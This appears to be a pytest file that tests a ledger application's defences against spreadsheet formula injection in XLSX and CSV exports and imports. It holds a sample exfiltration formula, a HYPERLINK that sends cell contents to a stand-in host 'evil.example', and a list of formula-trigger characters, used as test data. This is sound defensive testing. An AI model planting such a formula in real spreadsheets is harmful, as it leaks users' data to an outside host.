"""Spreadsheet safety (decision 0016): exported text is never a live formula, imports refuse them.

The ledger (XLSX and CSV) is exported from a seeded world in which every free-text column of
every table — names, narratives, contacts, reasons — was made to start with a formula character
(each variant: = + - @, tab, carriage return, full-width ＝＋－＠, and the same after leading
spaces); openpyxl must read every such cell as a string, and every CSV cell must be neutralised.
"""

import csv
import io
import itertools
import zipfile
from collections.abc import Iterator
from decimal import Decimal

import pytest
import sqlalchemy as sa
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlmodel import SQLModel
from sqlmodel.sql.sqltypes import AutoString

from app.actors import SYSTEM
from app.models.exports import ExportFormat
from app.services import imports, ledger
from app.services.imports.columns import KINDS
from app.spreadsheets import csv_cell, starts_like_formula, strip_neutraliser, xlsx_cell
from tests.services.bureau_world import BureauWorld, build_bureau_world
from tests.services.test_imports_service import headers

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
VARIANTS = [*TRIGGERS, " =", "  +", "\t-", "\u3000@", " \t="]
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _sheet_of(values: list) -> list:
    """Write values through xlsx_cell in a write-only workbook and read the cells back."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append([xlsx_cell(sheet, v, "#,##0.00") for v in values])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return list(load_workbook(buffer)["s"][1])


@pytest.mark.parametrize("variant", VARIANTS, ids=repr)
def test_each_formula_start_is_neutralised_in_csv_and_a_string_in_xlsx(variant):
    text = variant + PAYLOAD
    assert starts_like_formula(text)
    assert csv_cell(text) == "'" + text
    assert strip_neutraliser(csv_cell(text)) == text
    [cell] = _sheet_of([text])
    # XML reads a carriage return back as a line feed; the text is otherwise exact.
    assert (cell.data_type, cell.value) == ("s", text.replace("\r", "\n"))


@example("'=")  # already looks neutralised: one more quote, so the round trip is exact
@example("''+1")
@given(st.text(max_size=40))
def test_any_text_is_inert_in_both_formats(text):
    neutral = csv_cell(text)
    assert not starts_like_formula(neutral)
    assert strip_neutraliser(neutral) == text
    [cell] = _sheet_of([text])
    assert cell.data_type != "f"


@given(st.integers(min_value=-(10**12), max_value=10**12))
def test_numbers_stay_numbers_negative_ones_too(fen):
    amount = Decimal(fen) / 100
    assert csv_cell(amount) == amount
    assert csv_cell(fen) == fen
    [money, whole] = _sheet_of([amount, fen])
    assert (money.data_type, whole.data_type) == ("n", "n")
    assert Decimal(str(money.value)) == amount and whole.value == fen


# The ledger, with hostile text in every free-text column --------------------------------------


def _free_text_columns() -> Iterator[tuple[sa.Table, sa.Column]]:
    for table in SQLModel.metadata.sorted_tables:
        for column in table.columns:
            if (
                isinstance(column.type, sa.String | AutoString)
                and not column.primary_key
                and not column.foreign_keys
            ):
                yield table, column


@pytest.fixture(scope="module")
def hostile(database_factory) -> Iterator[tuple[BureauWorld, int]]:
    world = build_bureau_world(database_factory, "hostile")
    variants = itertools.cycle(VARIANTS)
    changed = 0
    with world.database.unit_of_work() as session:
        for table, column in _free_text_columns():
            prefix = next(variants) + "=HYPERLINK(1)"
            value = sa.literal(prefix) + column
            if getattr(column.type, "length", None):
                value = sa.func.substr(value, 1, column.type.length)
            try:
                with session.begin_nested():
                    session.execute(table.update().where(column != "").values({column: value}))
                changed += 1
            except sa.exc.IntegrityError:
                pass  # a check constraint keeps this column's text to a fixed shape
    yield world, changed
    world.database.dispose()


def _export(world, fmt: ExportFormat) -> bytes:
    buffer = io.BytesIO()
    with world.database.read_only() as session:
        ledger.write_ledger(session=session, actor=SYSTEM, fmt=fmt, target=buffer)
    return buffer.getvalue()


def test_every_text_cell_of_the_xlsx_ledger_is_a_string_never_a_formula(hostile):
    world, changed = hostile
    assert changed > 60
    book = load_workbook(io.BytesIO(_export(world, ExportFormat.xlsx)))
    hostile_cells = {}
    for sheet in book.worksheets:
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert {c.data_type for c in cells if isinstance(c.value, str)} <= {"s"}
        hostile_cells[sheet.title] = sum(
            isinstance(c.value, str) and starts_like_formula(c.value) for c in cells
        )
    assert all(hostile_cells.values()), hostile_cells


def test_every_text_cell_of_the_csv_ledger_is_neutralised(hostile):
    world, _changed = hostile
    archive = zipfile.ZipFile(io.BytesIO(_export(world, ExportFormat.csv)))
    neutralised = {}
    for name in archive.namelist():
        rows = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        live = [c for c in cells if starts_like_formula(c) and not _is_number(c)]
        assert live == [], name
        neutralised[name] = sum(c.startswith("'") and starts_like_formula(c[1:]) for c in cells)
    assert all(neutralised.values()), neutralised


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "written"),
    [(Decimal("-12.50"), "-12.50"), (-3, "-3"), ("-12.50", "'-12.50"), ("@x", "'@x")],
)
def test_the_csv_ledger_neutralises_text_and_leaves_numbers_alone(value, written):
    # The database's check constraints keep amounts positive, so the writer is asked directly.
    assert ledger._text(value) == written


# Imports refuse formulas --------------------------------------------------------------------


def _xlsx(kind: str, row: list) -> io.BytesIO:
    book = Workbook()
    book.active.title = KINDS[kind].title
    book.active.append(headers(kind))
    book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


def _csv(kind: str, row: list) -> io.BytesIO:
    text = io.StringIO()
    csv.writer(text).writerows([headers(kind), row])
    return io.BytesIO(text.getvalue().encode("utf-8"))


REFUSED = "不能填写公式（以“=”“+”“-”“@”开头的内容），请直接填写数值或文字"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("kind", list(KINDS))
@pytest.mark.parametrize("start", ["=", "＝", " ="])
def test_a_formula_in_any_column_is_refused_by_row_and_column(kind, fmt, start):
    columns = KINDS[kind].columns
    for index, column in enumerate(columns):
        row = ["x"] * len(columns)
        row[index] = f"{start}SUM(1,2)"
        source = _xlsx(kind, row) if fmt == "xlsx" else _csv(kind, row)
        parsed = imports.read_file(source, f"a.{fmt}", kind)
        located = [(e.row, e.column, e.message) for e in parsed.errors]
        assert (2, column.header, REFUSED) in located
        assert parsed.size == 0  # the row goes no further


def test_a_formula_cell_is_refused_and_nothing_is_written(fresh_db):
    book = Workbook()
    book.active.title = "行政村"
    book.active.append(headers("villages")[:3])
    book.active.append(["140829100201", '=CONCAT("南","坡村")', "140829"])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    with pytest.raises(imports.ImportRejected) as caught, fresh_db.unit_of_work() as session:
        imports.import_file(session=session, actor=SYSTEM, source=buffer, filename="a.xlsx")
    assert [str(e) for e in caught.value.row_errors] == [
        f"行政村 第 2 行“村名”列（B 列）：{REFUSED}"
    ]
    with fresh_db.read_only() as session:
        assert session.execute(sa.text("SELECT count(*) FROM villages")).scalar_one() == 0
